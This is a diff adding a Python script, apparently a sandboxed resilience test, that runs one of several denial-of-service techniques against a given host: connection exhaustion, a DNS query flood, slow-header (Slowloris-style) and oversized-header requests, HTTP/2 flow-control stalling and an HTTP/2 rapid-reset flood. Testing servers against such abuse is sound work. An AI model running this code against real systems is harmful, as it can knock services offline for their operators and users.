@@ -1,0 +1,141 @@
+"""Run inside a sandbox: abuse of one kind, given as first argument; prints how far it got.
+
+Needs ``h2`` on the path for the HTTP/2 kinds.
+"""
+
+import resource
+import socket
+import ssl
+import struct
+import sys
+import time
+
+what, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
+
+
+def tls(*protocols: str) -> ssl.SSLSocket:
+    context = ssl.create_default_context()
+    context.set_alpn_protocols(protocols)
+    return context.wrap_socket(socket.create_connection((host, port), 10), server_hostname=host)
+
+
+def connections() -> str:
+    held = []
+    for _ in range(1300):
+        try:
+            held.append(socket.create_connection((host, port), 5))
+        except OSError:
+            pass
+    time.sleep(1)
+    alive = 0
+    for sock in held:
+        sock.setblocking(False)
+        try:
+            alive += bool(sock.recv(1))
+        except BlockingIOError:
+            alive += 1
+        except OSError:
+            pass
+    return f"{alive} open"
+
+
+def queries() -> str:
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sent = answered = 0
+    sock.setblocking(False)
+    until = time.monotonic() + 3
+    while time.monotonic() < until:
+        name = f"n{sent}.one.test".split(".")
+        labels = b"".join(bytes([len(x)]) + x.encode() for x in name) + b"\0"
+        head = struct.pack("!HHHHHH", sent & 0xFFFF, 0x100, 1, 0, 0, 0)
+        try:
+            sock.sendto(head + labels + struct.pack("!HH", 1, 1), ("10.0.2.3", 53))
+            sent += 1
+        except OSError:
+            pass
+        try:
+            while sock.recv(512):
+                answered += 1
+        except OSError:
+            pass
+    return f"{sent} sent {answered} answered"
+
+
+def slow_heads() -> str:
+    socks = [tls("http/1.1") for _ in range(60)]
+    for sock in socks:
+        sock.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n")
+    cut = 0
+    until = time.monotonic() + 20
+    while socks and time.monotonic() < until:
+        for sock in list(socks):
+            try:
+                sock.sendall(b"X: y\r\n")
+                sock.settimeout(0.01)
+                if not sock.recv(100):
+                    raise OSError
+            except TimeoutError:
+                continue
+            except OSError:
+                socks.remove(sock)
+                cut += 1
+        time.sleep(0.5)
+    return f"{cut} cut"
+
+
+def huge_head() -> str:
+    sock = tls("http/1.1")
+    sock.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n")
+    sent = 0
+    try:
+        while sent < 64 << 20:
+            sent += sock.send(b"X: " + b"y" * 4000 + b"\r\n")
+    except OSError:
+        pass
+    return f"{sent >> 20} MiB"
+
+
+def http2():  # type: ignore[no-untyped-def]
+    from h2.connection import H2Connection
+
+    sock, connection = tls("h2"), H2Connection()
+    connection.initiate_connection()
+    sock.sendall(connection.data_to_send())
+    names = ((":method", "GET"), (":path", "/big"), (":scheme", "https"), (":authority", f"{host}:{port}"))
+    return sock, connection, list(names)
+
+
+def no_window() -> str:
+    """Ask for much on many streams and never give credit."""
+    sock, connection, request = http2()  # type: ignore[no-untyped-call]
+    for _ in range(30):
+        connection.send_headers(connection.get_next_available_stream_id(), request, end_stream=True)
+    sock.sendall(connection.data_to_send())
+    received = 0
+    sock.settimeout(3)
+    try:
+        while data := sock.recv(65536):
+            received += len(data)
+    except OSError:
+        pass
+    return f"{received >> 10} KiB"
+
+
+def resets() -> str:
+    """Open streams and cancel them as fast as one can."""
+    sock, connection, request = http2()  # type: ignore[no-untyped-call]
+    count = 0
+    try:
+        while count < 20000:
+            stream = connection.get_next_available_stream_id()
+            connection.send_headers(stream, request, end_stream=True)
+            connection.reset_stream(stream)
+            sock.sendall(connection.data_to_send())
+            count += 1
+    except OSError:
+        pass
+    return f"{count} resets"
+
+
+print(globals()[what]())
